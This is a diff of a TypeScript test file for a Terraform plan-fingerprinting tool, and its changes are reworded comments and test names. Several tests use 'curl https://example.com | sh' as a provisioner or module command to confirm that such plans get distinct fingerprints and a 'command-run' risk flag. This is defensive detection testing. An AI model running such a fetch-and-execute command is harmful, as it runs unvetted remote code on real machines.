@@ -8,7 +8,7 @@ import { planFingerprint } from "../../cli/terraform/plan-fingerprint";
 import { readStackFiles } from "../../cli/terraform/stack-files";
 import { terraformBinary } from "../../cli/terraform/terraform";
 
-/** Pairs of plans that Terraform itself makes, of stacks that need no provider but its own. */
+/** Pairs of plans made by Terraform itself, of stacks with only its built-in provider. */
 
 const folders: string[] = [];
 afterAll(() => {
@@ -19,13 +19,13 @@ afterAll(() => {
 
 interface Planned {
   readonly fingerprint: string;
-  /** The plan as people read it. */
+  /** The plan as text. */
   readonly text: string;
   /** The codes of the risks. */
   readonly risks: readonly string[];
 }
 
-/** Plans a stack in a folder of its own. */
+/** Plans a stack in a new folder. */
 function plan(
   stack: object,
   { files = {} as Record<string, string>, variables = {} as Record<string, string> } = {},
@@ -74,8 +74,8 @@ const image = {
   resource: { terraform_data: { image: { input: '${formatdate("YYYYMMDDhhmmss", plantimestamp())}' } } },
 };
 
-describe("plans that look the same, and are not: the fingerprints differ", () => {
-  test("what a provisioner runs; the page tells that it runs", () => {
+describe("plans that only look the same: the fingerprints differ", () => {
+  test("the command of a provisioner; the page reports that it runs", () => {
     const [build, curl] = [running("docker build ."), running("curl https://example.com | sh")].map((stack) =>
       plan(stack),
     );
@@ -84,7 +84,7 @@ describe("plans that look the same, and are not: the fingerprints differ", () =>
     expect(curl?.risks).toEqual(["command-run"]);
   });
 
-  test("what a value that is known only after the apply is made from", () => {
+  test("the inputs of a value that is known only after the apply", () => {
     const [one, all] = ['["s3:ListBucket", terraform_data.made.id]', '["*", terraform_data.made.id]'].map(
       (value) => plan(referring(value)),
     );
@@ -92,7 +92,7 @@ describe("plans that look the same, and are not: the fingerprints differ", () =>
     expect(all?.fingerprint).not.toBe(one?.fingerprint);
   });
 
-  test("what a module runs", () => {
+  test("the command of a module", () => {
     const [build, curl] = ["docker build .", "curl https://example.com | sh"].map((command) =>
       plan(
         { module: { m: { source: "./m" } } },
